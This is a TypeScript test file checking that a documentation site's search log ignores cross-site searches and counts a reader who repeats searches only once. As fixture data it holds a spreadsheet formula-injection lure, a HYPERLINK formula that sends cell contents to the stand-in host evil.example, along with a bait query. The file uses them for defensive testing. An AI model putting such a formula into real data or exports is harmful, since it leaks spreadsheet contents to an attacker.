import type { InsightsResponse } from '@acme/contract';
import { describe, expect } from 'vitest';
import type { Database } from '../server/src/store/database.js';
import { searchQueries } from '../server/src/store/schema.js';
import { test } from './fixtures';
import { sessionCookieFor } from './sign-in';

/**
 * What readers searched reaches the maintainers' insights only as they searched it: a search another site makes in a
 * reader's name (a link to /api/search?q=...) is answered but never logged, and one reader repeating searches, or
 * alternating two so that no typing merges them, counts as one reader.
 */
const maintainer = 'docs.lead@acme.dev';
test.override({ serverEnvironment: { MAINTAINERS: maintainer, LOG_LEVEL: 'silent' }, readerEmail: maintainer });

const lure = '=HYPERLINK("http://evil.example/?x="&A1,"Click for docs")';
const bait = 'qqqzzz visit evil.example for the new handbook';

/** Waits until the search log holds `count` rows whose query is one of `queries`: searches are logged after the answer. */
async function searchesLogged(db: Database, queries: readonly string[], count: number) {
  let logged = 0;
  for (let attempt = 0; attempt < 250; attempt++) {
    logged = (await db.select().from(searchQueries)).filter((row) => queries.includes(row.query)).length;
    if (logged === count) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error(`the search log held ${logged} of those searches, not ${count}`);
}

const emails = ['cara.crosslink@acme.dev', 'eve.repeat@acme.dev', 'ada.asker@acme.dev', 'bob.asker@acme.dev'];
const cookies = new Map<string, string>();

describe('the search log behind the insights', () => {
  // The server starts and each reader signs in here, so the tests' time limits are their own.
  test.beforeAll(async ({ server }) => {
    for (const email of emails) cookies.set(email, await sessionCookieFor(server.baseUrl, email));
  });

  test("crossSiteSearchIsAnsweredNotLogged: a link on another site searches in the reader's name but logs nothing", async ({
    server,
  }) => {
    const cookie = cookies.get('cara.crosslink@acme.dev') ?? '';
    const search = (q: string, headers: Record<string, string>) =>
      server.app.inject({ url: `/api/search?q=${encodeURIComponent(q)}`, headers: { cookie, ...headers } });
    const made = {
      'cross-site': { 'sec-fetch-site': 'cross-site', referer: 'https://evil.example/' },
      'same-site': { 'sec-fetch-site': 'same-site', referer: 'https://docs.acme.dev/' },
      // Typed into the address bar, or a link followed from a mail or a chat.
      none: { 'sec-fetch-site': 'none' },
    };
    for (const [site, headers] of Object.entries(made)) {
      const response = await search(`firestore ttl ${site}`, headers);
      expect({ site, status: response.statusCode }).toEqual({ site, status: 200 });
      expect(JSON.parse(response.body).results.length, site).toBeGreaterThan(0);
    }
    // The handbook's own pages: the browser says same-origin; a client that says nothing is logged as before.
    expect((await search('firestore ttl from the box', { 'sec-fetch-site': 'same-origin' })).statusCode).toBe(200);
    expect((await search('qjxzvkw without the header', {})).statusCode).toBe(200);

    const queries = [...Object.keys(made).map((site) => `firestore ttl ${site}`), 'firestore ttl from the box'];
    await searchesLogged(server.store.db, [...queries, 'qjxzvkw without the header'], 2);
    const logged = (await server.store.db.select().from(searchQueries)).map((row) => row.query);
    expect(logged).toContain('firestore ttl from the box');
    expect(logged).toContain('qjxzvkw without the header');
    expect(logged.filter((query) => queries.slice(0, 3).includes(query))).toEqual([]);
  });

  test('oneReaderAlternatingTwoSearchesCountsOnce: 30 rounds of two queries stay below a search two readers made', async ({
    server,
    sessionCookie,
  }) => {
    const search = async (email: string, q: string) => {
      const response = await server.app.inject({
        url: `/api/search?q=${encodeURIComponent(q)}`,
        headers: { cookie: cookies.get(email) ?? '', 'sec-fetch-site': 'same-origin' },
      });
      expect(response.statusCode).toBe(200);
    };
    for (let round = 0; round < 30; round++) {
      await search('eve.repeat@acme.dev', lure);
      await search('eve.repeat@acme.dev', bait);
    }
    await search('ada.asker@acme.dev', 'cloudflare tunnel');
    await search('bob.asker@acme.dev', 'cloudflare tunnel');
    await searchesLogged(server.store.db, [lure, bait, 'cloudflare tunnel'], 62);

    const response = await server.app.inject({ url: '/api/insights?days=7', headers: { cookie: sessionCookie } });
    expect(response.statusCode).toBe(200);
    const { noClick } = (JSON.parse(response.body) as InsightsResponse).searches;
    const figures = (query: string) => noClick.find((miss) => miss.query === query.toLowerCase());
    expect(noClick[0]).toMatchObject({ query: 'cloudflare tunnel', readers: 2, searches: 2 });
    expect(figures(lure)).toMatchObject({ readers: 1, searches: 30 });
    expect(figures(bait)).toMatchObject({ readers: 1, searches: 30 });
  });
});
